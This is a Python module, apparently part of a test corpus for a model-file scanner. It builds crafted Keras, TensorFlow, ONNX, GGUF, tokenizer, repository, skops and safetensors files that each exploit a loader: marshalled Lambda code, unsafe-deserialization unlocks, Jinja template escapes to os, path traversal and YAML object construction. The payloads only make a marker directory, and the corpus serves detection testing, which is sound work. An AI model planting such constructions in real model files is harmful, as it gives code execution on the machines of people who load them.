"""Attacks in formats whose loaders are not here: Keras, TensorFlow, ONNX, GGUF, skops, repositories."""

from __future__ import annotations

import base64
import json
import marshal
import struct
from typing import Any

from model_corpus.cases import Attack
from model_corpus.unseen_building import Member, expression, plain, statement, tarred, zipped

_NO_KERAS = "needs Keras, which is not installed"
_NO_TENSORFLOW = "needs TensorFlow, which is not installed"
_NO_HUB = "needs transformers, which is not installed"
_NO_LLAMA = "needs llama.cpp's Python side, which is not installed"


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


def _lambda(marker: str) -> dict[str, Any]:
    code = compile(f"lambda x: ({expression(marker)}, x)[1]", "w", "eval").co_consts[0]
    held = {"code": base64.b64encode(marshal.dumps(code)).decode(), "defaults": None, "closure": None}
    function = {"class_name": "__lambda__", "config": held}
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "norm", "function": function},
    }


def _sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    entry = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4]}}
    config = {"name": "sequential", "layers": [entry, *layers]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None}


def _keras(config: dict[str, Any]) -> bytes:
    metadata = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    return zipped([
        Member("metadata.json", _json(metadata)), Member("config.json", _json(config)),
        Member("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 88),
    ])  # fmt: skip


def _keras_lambda(marker: str) -> bytes:
    return _keras(_sequential(_lambda(marker)))


def _keras_module(marker: str) -> bytes:
    call = {"module": "os", "class_name": "function", "config": "mkdir", "registered_name": "mkdir"}
    layer = {
        "module": "keras.layers", "class_name": "Activation", "name": "act", "config": {"activation": call},
        "inbound_nodes": [{"args": [marker], "kwargs": {}}],
    }  # fmt: skip
    return _keras({
        "module": "keras.models", "class_name": "Model",
        "config": {"layers": [{**call, "name": "x", "inbound_nodes": layer["inbound_nodes"]}, layer],
                   "input_layers": [["x", 0, 0]], "output_layers": [["x", 0, 0]]},
    })  # fmt: skip


def _keras_unlocked(marker: str) -> bytes:
    # the first layer turns the protection off, the second needs it off
    unlock = {
        "module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
        "name": "u",
        "registered_name": "function", "inbound_nodes": [{"args": [], "kwargs": {}}],
    }  # fmt: skip
    config = _sequential(unlock, _lambda(marker))
    return _keras(config)


def _keras_deep(marker: str) -> bytes:
    # inside a wrapper's layer, under an optimizer's loss, with a registered name that means another class
    fetch = {
        "module": "keras.src.utils.file_utils", "class_name": "get_file", "registered_name": "builtins>Dense",
        "config": {"fname": marker, "origin": "file:///etc/hostname", "cache_dir": "/"},
    }  # fmt: skip
    wrapper = {"module": "keras.layers", "class_name": "TimeDistributed", "config": {"layer": fetch}}
    config = _sequential(wrapper)
    config["compile_config"] = {
        "loss": {"module": "builtins", "class_name": "exec", "config": statement(marker)}
    }
    return _keras(config)


def _padded(content: bytes) -> bytes:
    return content + b"\0" * (-len(content) % 8)


def _h5_attribute(name: str, value: bytes) -> bytes:
    named = name.encode() + b"\0"
    kind, space = struct.pack("<B3BI", 0x13, 0, 0, 0, len(value)), b"\x01" + b"\0" * 7
    head = struct.pack("<BBHHH", 1, 0, len(named), len(kind), len(space))
    return _message(0x0C, head + _padded(named) + kind + space + value)


def _message(kind: int, content: bytes) -> bytes:
    content = _padded(content)
    return struct.pack("<HHB3x", kind, len(content), 0) + content


def _h5(marker: str) -> bytes:
    """An HDF5 file, written by hand: a root group with two attributes."""
    none = b"\xff" * 8
    config = _json(_sequential(_lambda(marker)))
    messages = [
        _message(0x02, b"\0\0" + none + none), _message(0x0A, b"\0\0"),
        _h5_attribute("model_config", config), _h5_attribute("keras_version", b"2.15.0"),
    ]  # fmt: skip
    body = b"".join(messages)
    header = struct.pack("<BBHII4x", 1, 0, len(messages), 1, len(body)) + body
    root = struct.pack("<QQII16x", 0, 96, 0, 0)
    sizes = bytes([0, 0, 0, 0, 0, 8, 8, 0]) + struct.pack("<HHI", 4, 16, 0)
    end = struct.pack("<Q", 96 + len(header))
    return b"\x89HDF\r\n\x1a\n" + sizes + b"\0" * 8 + none + end + none + root + header


def _field(number: int, value: bytes | str | int) -> bytes:
    """A field of a protocol buffer."""
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    content = value.encode() if isinstance(value, str) else value
    return _varint(number << 3 | 2) + _varint(len(content)) + content


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def _attribute(name: str, value: bytes) -> bytes:
    return _field(5, _field(1, name) + _field(2, value))


def _constant(name: str, text: str) -> bytes:
    tensor = _field(1, 7) + _field(2, b"") + _field(8, text)
    return (
        _field(1, name)
        + _field(2, "Const")
        + _attribute("dtype", _field(6, 7))
        + _attribute("value", _field(8, tensor))
    )


def _saved(graph: bytes) -> bytes:
    return _field(1, 1) + _field(2, _field(1, _field(4, "serve") + _field(5, "2.15.0")) + _field(2, graph))


def _saved_write(marker: str) -> bytes:
    write = _field(1, "w") + _field(2, "WriteFile") + _field(3, "place") + _field(3, "text")
    nodes = _field(1, _constant("place", marker)) + _field(1, _constant("text", "w")) + _field(1, write)
    return _saved(nodes)


def _saved_function(marker: str) -> bytes:
    # in the body of a function, not in the graph
    named = _attribute("token", _field(2, "pyfunc_0"))
    body = _field(1, "py") + _field(2, "EagerPyFunc") + _field(3, "place:output:0") + named
    function = (
        _field(1, _field(1, "__inference_call_1")) + _field(3, _constant("place", marker)) + _field(3, body)
    )
    return _saved(_field(2, _field(1, function)))


def _saved_metadata(marker: str) -> bytes:
    layer = {**_lambda(marker), "name": "norm", "trainable": True}
    entry = _field(2, 1) + _field(3, "root.layer-0") + _field(4, "_tf_keras_layer") + _field(5, _json(layer))
    return _field(1, entry)


def _onnx(node: bytes, *others: bytes, domain: str = "") -> bytes:
    value = _field(1, "x") + _field(2, _field(1, _field(1, 1) + _field(2, _field(1, _field(1, 1)))))
    graph = (
        node
        + _field(2, "g")
        + b"".join(others)
        + _field(11, value)
        + _field(12, value.replace(b"x", b"y", 1))
    )
    sets = _field(8, _field(1, "") + _field(2, 17))
    if domain:
        sets += _field(8, _field(1, domain) + _field(2, 1))
    return _field(1, 8) + _field(7, graph) + sets


def _onnx_node(kind: str, domain: str = "", *attributes: bytes) -> bytes:
    inner = _field(1, "x") + _field(2, "y") + _field(4, kind) + b"".join(attributes) + _field(7, domain)
    return _field(1, inner)


def _onnx_outside(marker: str) -> bytes:
    place = "weights/" + "../" * 12 + marker.lstrip("/")
    external = _field(13, _field(1, "location") + _field(2, place)) + _field(
        13, _field(1, "length") + _field(2, "4")
    )
    tensor = _field(1, 1) + _field(2, 1) + _field(8, "w") + external + _field(14, 1)
    return _onnx(_onnx_node("Identity"), _field(5, tensor))


def _onnx_constant(marker: str) -> bytes:
    # in a constant of a branch, where only the nodes' attributes hold the tensor
    external = _field(13, _field(1, "location") + _field(2, "file://" + marker))
    tensor = _field(1, 1) + _field(2, 1) + _field(8, "w") + external + _field(14, 1)
    constant = (
        _field(2, "c")
        + _field(4, "Constant")
        + _field(5, _field(1, "value") + _field(5, tensor) + _field(20, 4))
    )
    branch = _field(
        5, _field(1, "then_branch") + _field(6, _field(1, constant) + _field(2, "t")) + _field(20, 5)
    )
    return _onnx(_onnx_node("If", "", branch))


def _onnx_python(marker: str) -> bytes:
    code = _field(5, _field(1, "func_name") + _field(4, statement(marker)) + _field(20, 3))
    library = _field(14, _field(1, "custom_ops_library") + _field(2, f"{marker}.so"))
    return _onnx(_onnx_node("PythonOp", "com.microsoft", code), domain="com.microsoft") + library


def _text(value: str, order: str = "<") -> bytes:
    return struct.pack(order + "Q", len(value.encode())) + value.encode()


def _gguf(entries: list[tuple[str, int, bytes]], order: str = "<") -> bytes:
    body = b"".join(
        _text(key, order) + struct.pack(order + "I", kind) + value for key, kind, value in entries
    )
    return b"GGUF" + struct.pack(order + "IQQ", 3, 0, len(entries)) + body


def _template(marker: str) -> str:
    reach = "{% set ns = cycler.__init__.__globals__ %}"
    return (
        "{% for m in messages %}{{ m['content'] }}{% endfor %}"
        + reach
        + "{{ ns.os.mkdir('"
        + marker
        + "') }}"
    )


def _hidden_template(marker: str) -> str:
    def hidden(word: str) -> str:
        return "'" + "".join(f"\\x{ord(each):02x}" for each in word) + "'"

    steps = f"(lipsum|attr({hidden('__globals__')}))[{hidden('os')}]"
    return "{%- if messages -%}{{ (" + steps + f"|attr({hidden('mkdir')}))('{marker}')" + " }}{%- endif -%}"


def _joined_template(marker: str) -> str:
    base = "{% set u = '_' * 2 %}{% set c = u ~ 'class' ~ u %}{% set b = u ~ ['ba', 'se']|join ~ u %}"
    call = "{% for k in (((()|attr(c)|attr(b))|attr(u ~ 'subclasses' ~ u))()) %}"
    call += "{% if 'wrap_close' in k|string %}"
    deep = "{{ (k|attr(u ~ 'init' ~ u)|attr(u ~ 'globals' ~ u))['mkdir']('" + marker + "') }}"
    return base + call + deep + "{% endif %}{% endfor %}"


def _gguf_template(marker: str) -> bytes:
    return _gguf([
        ("general.architecture", 8, _text("llama")),
        ("tokenizer.chat_template", 8, _text(_template(marker))),
    ])  # fmt: skip


def _gguf_tools(marker: str) -> bytes:
    tokens = struct.pack("<IQ", 8, 200) + b"".join(_text(f"t{at}") for at in range(200))
    names = struct.pack("<IQ", 8, 1) + _text("tool_use")
    return _gguf([
        ("tokenizer.ggml.tokens", 9, tokens), ("tokenizer.chat_template", 8, _text("{{ messages }}")),
        ("tokenizer.chat_templates", 9, names),
        ("tokenizer.chat_template.tool_use", 8, _text(_hidden_template(marker))),
    ])  # fmt: skip


def _gguf_big(marker: str) -> bytes:
    entries = [("tokenizer.chat_template", 8, _text(_joined_template(marker), ">"))]
    return _gguf(entries, ">")


def _tokenizer(marker: str) -> bytes:
    harmless = {"name": "default", "template": "{{ messages[0]['content'] }}"}
    other = {"name": "rag", "template": _joined_template(marker)}
    return _json({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": [harmless, other]})


def _repository(marker: str) -> bytes:
    places = {"AutoConfig": "configuration_w.WConfig", "AutoModelForCausalLM": "modeling_w.WModel"}
    code = f"{statement(marker)}\n\n\nclass WModel:\n    pass\n".encode()
    return zipped([
        Member("config.json", _json({"model_type": "w", "auto_map": places})),
        Member("configuration_w.py", b"class WConfig:\n    pass\n"), Member("modeling_w.py", code),
    ])  # fmt: skip


def _remote_repository(marker: str) -> bytes:
    config = {"auto_map": {"AutoTokenizer": ["somebody/other--tokenization_w.WTokenizer", None]}}
    template = Member("chat_template.jinja", _hidden_template(marker).encode())
    return zipped([Member("tokenizer_config.json", _json(config)), template])


def _configured(marker: str) -> bytes:
    lines = f"model:\n  _target_: posix.mkdir\n  path: {marker}\n"
    lines += f"loss: !!python/object/apply:os.mkdir ['{marker}']\n"
    return tarred(
        [("./model_config.yaml", lines.encode()), ("./model_weights.ckpt", b"PK\x05\x06" + b"\0" * 18)]
    )


def _slipped(marker: str) -> bytes:
    climbing = Member("../" * 12 + marker.lstrip("/"), b"")
    harmless = Member("model.safetensors", struct.pack("<Q", 2) + b"{}")
    return zipped([Member("config.json", b"{}"), harmless, climbing])


def _node(kind: str, loader: str, content: Any, **others: Any) -> dict[str, Any]:
    module, name = kind.rsplit(".", 1)
    return {"__module__": module, "__class__": name, "__loader__": loader, "content": content, **others}


def _skops_state(marker: str) -> bytes:
    # a distribution whose state holds source text that setting the state runs
    source = _node("builtins.str", "JsonNode", json.dumps(statement(marker)), is_json=True, __id__=4)
    names = _node("builtins.list", "ListNode", [_node("builtins.str", "TypeNode", None, __id__=6)], __id__=5)
    state = _node("builtins.dict", "DictNode", {"_parse_arg_template": source}, key_types=names, __id__=3)
    kind = "scipy.stats._distn_infrastructure.rv_continuous"
    schema = {**_node(kind, "ObjectNode", state, __id__=2), "protocol": 2, "_skops_version": "0.11.0"}
    return zipped([Member("schema.json", _json(schema), method=8)])


def _skops_method(marker: str) -> bytes:
    # the class that is declared is harmless, the loader that is declared fetches a method of another
    place = _node("builtins.str", "JsonNode", json.dumps(marker), is_json=True, __id__=4)
    content = {"func": "mkdir", "obj": _node("pathlib.PosixPath", "ObjectNode", place, __id__=3)}
    schema = _node("sklearn.linear_model.Ridge", "MethodNode", content, __id__=2)
    whole = {**schema, "protocol": 2, "_skops_version": "0.11.0"}
    return zipped([Member("schema.json", _json(whole)), Member("0.npy", plain(marker, 3))])


def _overlapping(marker: str) -> bytes:
    body = plain(marker).ljust(64, b"\0")
    first = '{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{"dtype":"F32","shape":[16],'
    rest = '"data_offsets":[0,64]},"b":{"dtype":"F64","shape":[4,-1],"data_offsets":[8,40]}}'
    header = (first + rest).encode()
    return struct.pack("<Q", len(header)) + header + body


def _endless_header(marker: str) -> bytes:
    metadata = _json({"__metadata__": {"format": "pt", "load": statement(marker)}})
    return struct.pack("<Q", (1 << 63) - 1) + metadata


def attacks() -> list[Attack]:
    """All of this kind."""
    templates = f"{_NO_LLAMA}; the template runs when a chat is rendered"
    reading = "reads a file outside the model's folder instead of making one"
    breaking = "takes a careless reader's memory or lets it see other weights; it makes no file"
    skops = "the proofs have no loader for skops; runs where every type of the file is trusted"
    refused = "the proofs have no loader for skops, whose current release refuses it"
    return [
        Attack("keras: Lambda with marshalled code", ".keras", _keras_lambda, "", _NO_KERAS),
        Attack("keras: a function of a module as a layer", ".keras", _keras_module, "", _NO_KERAS),
        Attack("keras: the protection turned off first", ".keras", _keras_unlocked, "", _NO_KERAS),
        Attack("keras: deep in a wrapper and a loss", ".keras", _keras_deep, "", _NO_KERAS),
        Attack("keras: Lambda in HDF5", ".h5", _h5, "", _NO_KERAS),
        Attack("saved model: WriteFile", ".pb", _saved_write, "", _NO_TENSORFLOW),
        Attack("saved model: a Python call in a function's body", ".pb", _saved_function, "", _NO_TENSORFLOW),
        Attack("saved model: Lambda in the metadata", ".pb", _saved_metadata, "", _NO_TENSORFLOW),
        Attack("onnx: weights outside the folder", ".onnx", _onnx_outside, "", reading),
        Attack("onnx: weights of a constant in a branch outside", ".onnx", _onnx_constant, "", reading),
        Attack("onnx: a Python operator, a library", ".onnx", _onnx_python, "", "needs onnxruntime-training"),
        Attack("gguf: a template reaches os", ".gguf", _gguf_template, "", templates),
        Attack("gguf: the template for tools, in escapes", ".gguf", _gguf_tools, "", templates),
        Attack("gguf: big-endian, names joined in the template", ".gguf", _gguf_big, "", templates),
        Attack("tokenizer: the second template of a list", "_tokenizer_config.json", _tokenizer, "", _NO_HUB),
        Attack("repository: code by auto_map", ".zip", _repository, "", _NO_HUB),
        Attack("repository: code of another, a template", ".zip", _remote_repository, "", _NO_HUB),
        Attack("repository: a YAML file that makes objects", ".nemo", _configured, "", "needs NeMo or Hydra"),
        Attack("repository: a member climbs out", ".zip", _slipped, "", "needs an unpacker that obeys names"),
        Attack("skops: source in a state", ".skops", _skops_state, "", skops),
        Attack("skops: a loader not the class's own", ".skops", _skops_method, "", refused),
        Attack("skops: a pickle under its name", ".skops", lambda marker: plain(marker, 2), "joblib"),
        Attack("safetensors: one name twice, overlaps", ".safetensors", _overlapping, "", breaking),
        Attack("safetensors: a header without end", ".safetensors", _endless_header, "", breaking),
    ]  # fmt: skip


__all__ = ["attacks"]
